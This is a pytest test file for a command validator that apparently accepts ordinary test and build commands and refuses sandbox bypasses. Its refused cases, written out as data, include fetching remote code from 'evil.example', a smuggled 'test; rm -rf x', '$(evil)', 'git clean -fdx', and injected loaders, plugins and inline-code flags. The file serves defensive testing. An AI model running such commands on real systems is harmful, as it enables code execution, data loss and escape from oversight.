import pytest

from longwatch.migrate.commands.refusals import refusals

FILES = {
    *(
        "check.sh",
        "tools/check.py",
        "tools/run.js",
        "test.rb",
        "a.pl",
        "a.php",
        "a.lua",
        "a.R",
        "gradlew",
        "mvnw",
        "a.ts",
    ),
    *(
        "tests/test_a.py",
        "node_modules/.bin/jest",
        "pkg/check.sh",
        "-c",
        "out/link.py",
        ".git/hooks/x.sh",
        "watch",
        "a.sh",
        "shadow/unittest.py",
    ),
}
OUTSIDE = {"out", "out/link.py", "venv/bin/python", "sly.py"}


class View:
    def is_file(self, path: str) -> bool:
        return path in FILES | OUTSIDE

    def exists(self, path: str) -> bool:
        return any(file == path or file.startswith(path + "/") for file in FILES)

    def leads_outside(self, path: str) -> bool:
        return any(path == link or path.startswith(link + "/") for link in OUTSIDE)

    def package_scripts(self, folder: str) -> frozenset[str]:
        return frozenset({"build", "e2e"}) if folder == "" else frozenset()


def judged(command: str | tuple[str, ...], cwd: str = ".", **policy: tuple[str, ...]) -> tuple[str, ...]:
    argv = tuple(command.split()) if isinstance(command, str) else command
    return refusals(argv, cwd, repository=View(), **policy)


ACCEPTED = """
pytest
pytest -q -x --maxfail=1 tests
pytest -qx tests/test_a.py::TestK::test_m
pytest -rA -k name --tb=short
pytest -n 4 --cov=src --cov-report=term
python tools/check.py
python3 tools/check.py -c anything --eval x
python3.12 -B -I tools/check.py
python -Werror tools/check.py
python -X dev tools/check.py
python -m pytest -q
python3 -m unittest
python3 -m unittest -v tests/test_a.py
python3 -m unittest discover -s tests -v
node tools/run.js --require anything
node --test
node --test tests
node --test --test-reporter=tap tests/a.test.js
node --enable-source-maps tools/run.js
node --check tools/run.js
deno test -A tests
deno fmt --check
deno run --allow-read a.ts
bun test
bun run build
npm test
npm run build
npm run e2e -- --headless
npm run --silent build
pnpm run build
yarn test
npm test -- --coverage -w 2
cargo test
cargo test --workspace --no-fail-fast -- --test-threads=1
cargo build --release --locked
cargo clippy --all-targets -- -D warnings
cargo fmt --all --check
cargo check -p core -j 2
go test ./...
go test -race -count=1 ./pkg/...
go vet ./...
go build ./cmd/x
make
make check
make -j test
make -j4 -C pkg lint
make -s build/x.o
cmake -S . -B build
cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Debug
cmake --build build --target all -j 4
ctest --test-dir build --output-on-failure -j2
ninja -C build test
mvn -q -B test
mvn verify -Dtest=FooTest
gradle test --offline
./gradlew :app:test --no-daemon
./mvnw -B verify
tox -e py311
tox run -e lint
nox -s tests
ruff check .
ruff format --check src
mypy --strict src
pyright
flake8 --max-line-length=100 src
eslint --max-warnings 0 src
tsc --noEmit -p tsconfig.json
prettier --check src
jest --ci --runInBand
jest -t name tests
node_modules/.bin/jest --ci
vitest run --reporter=verbose
mocha --recursive --forbid-only tests
mocha --reporter tap
dotnet test --no-restore
bundle exec rspec --format documentation
bundle exec rake test
rspec spec
phpunit --testdox tests
shellcheck check.sh
bash check.sh -c anything
sh check.sh
perl a.pl
php a.php
lua a.lua
Rscript a.R
ruby -w -Ilib test.rb
git status --porcelain
git diff --exit-code
git diff --check HEAD~1..HEAD
git ls-files -- src
./check.sh
./check.sh --eval anything
./watch
tools/check.py
"""


@pytest.mark.parametrize("command", ACCEPTED.strip().splitlines())
def test_an_honest_check_is_accepted(command: str) -> None:
    assert judged(command) == ()


REFUSED = """
python -c print(1)
python -cprint(1)
python3 -Ic print(1)
python3 -Bc print(1)
python -
python
python -i tools/check.py
python -O tools/check.py
python -m http.server
python -m timeit x
python -mtimeit x
python -mpytest
python -B -m code
python -m
python -W error::evil.Category tools/check.py
python -X presite=evil tools/check.py
python missing.py
python ../x.py
python /tmp/x.py
python @args
python out/link.py
python sly.py
python .git/hooks/x.sh
python -- -c
python3 -I -S -u -c x
python --check-hash-based-pycs always -c x
python2 tools/check.py
pypy tools/check.py
PYTHON tools/check.py
Python3 tools/check.py
python.exe tools/check.py
node -e 1
node -e1
node -p 1
node -pe 1
node -pe1
node --eval 1
node --eval=1
node --print=1
node -
node
node -c tools/run.js
node -r ./x.js tools/run.js
node --require ./x.js tools/run.js
node --require=./x.js tools/run.js
node --import ./x.js tools/run.js
node --loader ./x.mjs tools/run.js
node --experimental-loader=./x.mjs tools/run.js
node --env-file=.env tools/run.js
node --test --require ./x.js
node --test --test-reporter=./evil.js
node --test ../outside
node --test --eval 1
node --run build
node -i
node --inspect tools/run.js
deno eval 1
deno run https://evil.example/x.ts
deno run --import-map=x.json a.ts
deno test --preload x.ts
deno fmt
deno
bun -e 1
bun --eval 1
bun run missing
bun test --preload ./x.ts
bunx x
ruby -e 1
ruby -rx test.rb
ruby -r x test.rb
ruby -I/tmp test.rb
ruby -I ../x test.rb
ruby -ne 1
ruby -x
perl -e 1
perl -E 1
perl -Mx a.pl
perl -I. a.pl
perl -ne 1
perl -pe 1
perl -wE 1
php -r 1
php -d auto_prepend_file=x a.php
php -B 1
php -a
lua -e 1
lua -l x a.lua
lua -
Rscript -e 1
Rscript --default-packages=x a.R
bash -c ls
bash -lc ls
bash -ec ls
bash -ce ls
bash -s
bash --rcfile x check.sh
bash --init-file x check.sh
bash -i
bash
sh -c ls
sh -o pipefail -c ls
dash -c ls
zsh -c ls
npm install
npm exec x
npm x jest
npm run missing
npm run
npm run build extra
npm test extra
npm --prefix /tmp test
npm test --prefix /tmp
npm -C /tmp test
npm run build --script-shell=/tmp/x
npm run --script-shell /tmp/x build
npm run build --node-options=--require=x
npm test --if-present
npm run build -- --eval 1
npm run build -- -e 1
npm run build -- -pe 1
npm run build -- --require=x
npm run build -- @args
pnpm dlx x
pnpm exec x
pnpm -r test
yarn node -e 1
yarn dlx x
npx jest
cargo --config x test
cargo test --config build.rustc-wrapper="x"
cargo +nightly test
cargo run
cargo install x
cargo fmt
cargo test -Z unstable
cargo test --manifest-path ../x/Cargo.toml
cargo test --target-dir /tmp
cargo build -- x
cargo clippy -- -C linker=x
cargo evil
go run x.go
go generate ./...
go test -exec x ./...
go test -exec=x ./...
go test --exec=x ./...
go build -toolexec=x ./...
go test -toolexec x
go vet -vettool=x ./...
go test -overlay=x.json
go test -ldflags=-extld=x
go test -C /tmp
go test ../x
go test -o /tmp/x
go tool x
make -f other.mk
make -fother.mk
make --file=other.mk
make --makefile=x
make CC=evil test
make test SHELL=/tmp/x
make -j CC=evil
make --eval=x test
make -E x
make -n test
make -t
make -i test
make --dry-run
make -e test
make -I /tmp test
make -C .. test
make -C /tmp test
make --directory=/tmp test
make -C out test
make ../x
make @x
cmake -P x.cmake
cmake -E env x
cmake -C x.cmake -S .
cmake -S . -DCMAKE_CXX_COMPILER_LAUNCHER=x
cmake -S . --toolchain x
cmake --build build -- -f x
cmake --build /tmp
cmake --install build
ctest -S x.cmake
ctest --build-and-test . b
ctest -T Test
ctest --test-dir ../b
ninja -f x.ninja
ninja -t clean
mvn exec:java -Dexec.mainClass=X
mvn org.codehaus.mojo:exec-maven-plugin:exec
mvn -f other.xml test
mvn test -DskipTests
mvn -s x.xml test
mvn
gradle -I x.gradle test
gradle --init-script x test
gradle test -Pprop=x
./gradlew --init-script x test
./gradlew -b x.gradle test
java -cp . X
java @args
java -jar x.jar
pytest -p evil
pytest -pevil
pytest -c other.ini
pytest --config-file=other.ini
pytest --rootdir /tmp
pytest --rootdir=..
pytest -o addopts=-pevil
pytest --override-ini=x=y
pytest --confcutdir=/
pytest --pyargs evil
pytest --import-mode=importlib
pytest --collect-only
pytest --junitxml=/tmp/x
pytest --pdb
pytest --pdbcls=evil:X
pytest ../outside
pytest /abs
pytest @args
pytest out
pytest tests/../../x
python -m pytest -p evil
py.test -p evil
tox -c other.ini
tox -x testenv.commands=evil
tox --override x
nox -f other.py
ruff check --config x
ruff check --fix
ruff format src
mypy -c 1
mypy --config-file x.ini
mypy --python-executable ./x src
mypy --install-types
eslint -c x.js src
eslint --rulesdir x src
eslint --resolve-plugins-relative-to x src
eslint --plugin x src
eslint --fix src
eslint -f ./evil.js src
tsc --plugins x
tsc -p /tmp/x.json
prettier --write src
prettier --plugin=x --check src
jest -c x.js
jest --config=x.js
jest --config x.js
jest --globals={}
jest --setupFiles ./x
jest --testEnvironment ./x
jest --rootDir /tmp
jest --passWithNoTests
jest -u
jest --bail --config=x
node_modules/.bin/jest --config=x
vitest
vitest run --config x
vitest run --reporter=./evil.js
vitest run --passWithNoTests
mocha -r x
mocha --require x
mocha --require=x
mocha --import=x
mocha --config x
mocha --node-option require=x
mocha --ui x
mocha --reporter ./evil.js
mocha -R ./evil.js
dotnet run
dotnet exec x.dll
dotnet test --logger x
bundle install
bundle exec ruby -e 1
bundle exec env x
bundle exec
bundle exec rake -f x
rspec -r x
rspec -I /tmp
rspec --require=x
rspec -f ./evil
rake -e 1
rake -f x
git -c core.pager=x log
git --exec-path=/tmp status
git -C / status
git --git-dir=/tmp status
git push
git commit -m x
git checkout .
git clean -fdx
git fetch --upload-pack=x
git config alias.x !sh
git alias
git grep -Ox y
git diff --ext-diff
git diff --output=x
git diff --no-index a b
git log --textconv
git ls-files -- ../x
git
env python tools/check.py
env
env -S python
/usr/bin/env python tools/check.py
sudo pytest
xargs pytest
find . -exec pytest ;
nohup pytest
setsid pytest
timeout 5 pytest
nice pytest
time pytest
busybox sh check.sh
awk 1
sed e
ssh host pytest
docker run x
chroot . pytest
strace pytest
eval pytest
exec pytest
uv run pytest
poetry run pytest
/bin/sh check.sh
/usr/bin/python3 tools/check.py
./missing.sh
../check.sh
a/../check.sh
./../check.sh
out/link.py
venv/bin/python tools/check.py
.git/hooks/x.sh
.GIT/hooks/x.sh
A=1 pytest
unittest
true
echo ok
"""


@pytest.mark.guarantee("M14")
@pytest.mark.parametrize("command", REFUSED.strip().splitlines())
def test_a_bypass_is_refused(command: str) -> None:
    assert judged(command)


@pytest.mark.guarantee("M14")
@pytest.mark.parametrize(
    "argv",
    [
        (),
        ("",),
        ("pytest", "a\nb"),
        ("pytest", "a\0b"),
        ("pytest\n",),
        ("pytest", "a\rb"),
        ("make", "test; rm -rf x"),
        ("make", "$(evil)"),
        ("make", "a b"),
        ("pytest", ""),
        ("python", ""),
        ("node", " "),
        ("python", "tools\\check.py"),
        ("python", "~/x.py"),
        ("python", "file:x.py"),
        ("npm", "run", ""),
        ("pytest", "-k"),
        ("pytest", "-k", "--rootdir=/"),
    ],
)
def test_a_command_line_of_a_strange_form_is_refused(argv: tuple[str, ...]) -> None:
    assert judged(argv)


@pytest.mark.guarantee("M14", "K34")
@pytest.mark.parametrize("cwd", ["..", "/tmp", "a/../..", "out", ".git", ".GIT/hooks", "out/deep", "~"])
def test_a_working_folder_outside_is_refused(cwd: str) -> None:
    assert judged("pytest", cwd)


def test_a_script_is_looked_for_in_the_working_folder() -> None:
    assert judged("./check.sh", "pkg") == ()
    assert judged("./a.sh", "pkg")
    assert judged("npm run build", "pkg")


@pytest.mark.guarantee("M14")
def test_a_module_that_the_repository_shadows_is_refused() -> None:
    assert judged("python -m unittest", "shadow")
    assert judged("python -m pytest", "shadow") == ()


@pytest.mark.guarantee("M14")
def test_every_reason_is_told_at_once_and_names_its_argument() -> None:
    reasons = judged("pytest -p evil --rootdir=/ ../x @args")
    assert len(reasons) >= 4
    for argument in ("-p", "--rootdir=/", "../x", "@args"):
        assert any(repr(argument) in reason for reason in reasons), argument


@pytest.mark.guarantee("M14")
def test_forbidden_words_are_found_in_any_case_and_any_argument() -> None:
    assert judged("npm run e2e -- --browser=FireFox", forbidden_words=("firefox",))
    assert judged("./check.sh firefox", forbidden_words=("Firefox",))
    assert judged("npm run e2e -- --browser=chromium", forbidden_words=("firefox",)) == ()


def test_the_configuration_may_name_more_programs() -> None:
    assert judged("terraform validate")
    assert judged("terraform validate", allowed_extra=("terraform",)) == ()
    assert judged("/opt/x/bin/lint --strict", allowed_extra=("/opt/x/bin/lint",)) == ()
    assert judged("/opt/y/bin/lint", allowed_extra=("lint", "/opt/x/bin/lint"))


@pytest.mark.guarantee("M14")
@pytest.mark.parametrize(
    ("command", "extra"),
    [
        ("/usr/bin/python3 -c 1", "/usr/bin/python3"),
        ("/usr/bin/node --eval=1", "/usr/bin/node"),
        ("env pytest", "env"),
        ("/usr/bin/env pytest", "/usr/bin/env"),
        ("sudo pytest", "sudo"),
        ("groovy -e 1", "groovy"),
        ("scala --eval=1", "scala"),
        ("python -c 1", "python"),
    ],
)
def test_no_configuration_allows_inline_code_or_a_wrapper(command: str, extra: str) -> None:
    assert judged(command, allowed_extra=(extra,))
